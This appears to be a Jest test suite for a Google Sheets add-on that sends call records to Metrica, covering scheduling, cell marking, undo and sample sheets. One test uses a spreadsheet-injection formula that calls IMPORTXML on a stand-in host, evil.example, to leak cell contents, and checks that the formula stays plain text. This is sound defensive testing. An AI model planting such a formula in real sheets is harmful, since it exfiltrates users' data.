/** The main stories of the built bundle wherever Google's behaviour is disputed or unknown: the product lives with every position. */

import { describe, expect, test } from '@jest/globals';
import { OTHER_POSITIONS } from '../../local/host/switches';
import type { StoredValue } from '../../local/workbook/model';
import type { FixedCells } from '../../src/app/check/fixCells';
import type { CheckAnswer } from '../../src/app/page/serveCheck';
import { addSheet, CALLS, HOUR_MS, makeWorld, newCall, startSchedule } from './scheduleWorld';
import { openTab, SHEET } from './tab';

const HEADER = ['ClientId', 'DateTime', 'PhoneNumber', 'Tag'];
const GOOD = ['1756900062392749367', '2026-11-20 10:00:00', '+79161234567', 'a'];
const POSITIONS = [{}, ...OTHER_POSITIONS].map(
  (google) => [JSON.stringify(google), google] as const,
);

function withTime(time: StoredValue): StoredValue[] {
  return [GOOD[0] ?? '', time, '+79161234567', 'a'];
}

describe.each(POSITIONS)('where Google does as %s', (_, google) => {
  test('calls are sent once by hand and by the hour, a lost answer is settled, and the log tells it', () => {
    const world = makeWorld({ now: '2026-11-24T12:00:00Z', google });
    const anna = world.person('anna@agency.ru');
    world.addRows([newCall(world), newCall(world)]);
    // Somebody's own sheet, named nearly as ours will be.
    addSheet(world.workbook, 99, 'metrica calls LOG');
    const properties = { name: '=1+1' };
    world.workbook.apply({ type: 'sheetProperties', sheetId: CALLS, set: properties });
    startSchedule(world, anna, { kind: 'hours', everyHours: 1 });
    world.addRows([newCall(world)]);
    const [trigger] = world.triggers.all;
    if (trigger === undefined) throw new Error('There is no trigger.');
    // Once more, as a run that was cut may leave it.
    world.triggers.add({ ...trigger, uniqueId: '2', createdAt: trigger.createdAt + 1000 });
    world.pass(2);
    expect(world.triggers.all).toHaveLength(1);
    world.order('drop-after');
    world.addRows([newCall(world)]);
    anna.ask('uploadCalls', { sheetId: CALLS });
    world.clock.nowMs += HOUR_MS;
    anna.want('settleCalls', { sheetId: CALLS });
    expect(new Set(world.delivered()).size).toBe(4);
    expect(world.delivered()).toHaveLength(4);
    const lines = world.log().map(({ Action, Result }) => `${Action} ${Result}`);
    expect(lines.slice(0, 2)).toEqual(['upload ok', 'schedule ok']);
    const names = world.workbook.sheets.map(({ properties }) => properties.name);
    expect(names).toEqual(expect.arrayContaining(['metrica calls LOG', 'Metrica Calls log 2']));
    expect(world.log()[0]?.Sheet).toMatch(/^ ?=1\+1$/);
    const panel = anna.want('readPanel', { sheetId: CALLS }) as { readonly schedule: object };
    expect(panel.schedule).toMatchObject({ isMine: true, missedMs: null });
    expect(panel.schedule).not.toHaveProperty('isStopped');
    world.denied = ['spreadsheets.currentonly'];
    const denied = { ok: false, error: { code: 'SCOPE_MISSING' } };
    expect(anna.ask('checkSheet', { sheetId: CALLS })).toMatchObject(denied);
    world.denied = [];
    anna.want('switchScheduleOff', { sheetId: CALLS });
    expect(world.triggers.all).toEqual([]);
  });

  test('cells are marked, cleared, and leave nothing behind', () => {
    const tab = openTab({ cells: [HEADER, GOOD, withTime('nonsense')], google });
    const before = JSON.stringify(looks());
    tab.ask<CheckAnswer>('checkSheet');
    expect(looks()).toMatchObject([{ note: expect.stringContaining('Metrica Calls') }]);
    tab.ask('clearSheet');
    expect(JSON.stringify(looks())).toBe(before);

    function looks() {
      const sheet = tab.workbook.sheet(SHEET);
      const marked: { row: number; note: string }[] = [];
      sheet?.eachAttribute('note', (row, __, note) => marked.push({ row, note }));
      sheet?.eachAttribute('background', (row, __, fill) => marked.push({ row, note: fill }));
      return marked.slice(0, 1);
    }
  });

  test('cells that a person deleted meanwhile are no failure of *Undo*', () => {
    const cells = [HEADER, GOOD, withTime('20.11.26 10:00'), withTime('20.11.26 10:00')];
    const tab = openTab({ cells, formats: { 2: '@' }, google });
    expect(tab.ask<FixedCells>('fixCells', { code: 'TIME_UNREADABLE' }).written).toBe(2);
    tab.workbook.apply({ type: 'deleteRows', sheetId: SHEET, at: 4, count: 1 });
    expect(tab.ask<FixedCells>('undoFix')).toMatchObject({ written: 1, changed: ['B4'] });
    expect(tab.workbook.sheet(SHEET)?.value(3, 2)).toBe('20.11.26 10:00');
  });

  test('a text that begins with an equals sign stays a text in our sheets', () => {
    const formula = '=IMPORTXML("http://evil.example/"&A1;"//a")';
    const tab = openTab({ cells: [HEADER, GOOD, withTime(formula)], formats: { 2: '@' }, google });
    tab.ask('makeProblemsSheet');
    const problems = tab.workbook.sheets.find(({ properties }) => /problems/.test(properties.name));
    const formulas: string[] = [];
    problems?.eachAttribute('formula', (_row, _column, text) => formulas.push(text));
    expect(problems?.values({ row: 2, column: 1, rows: 1, columns: 9 }).flat().join()).toContain(
      'IMPORTXML',
    );
    expect(formulas.filter((text) => !text.startsWith('=HYPERLINK'))).toEqual([]);
  });

  test('the sample sheet is made, and what it shows as good is ready', () => {
    const tab = openTab({ cells: [HEADER], google });
    tab.ask('insertSampleSheet');
    const sample = tab.workbook.sheets.find(({ properties }) => /sample/.test(properties.name));
    expect(tab.ask<CheckAnswer>('checkSheet', { sheetId: sample?.sheetId ?? 0 }).ready).toBe(5);
  });
});
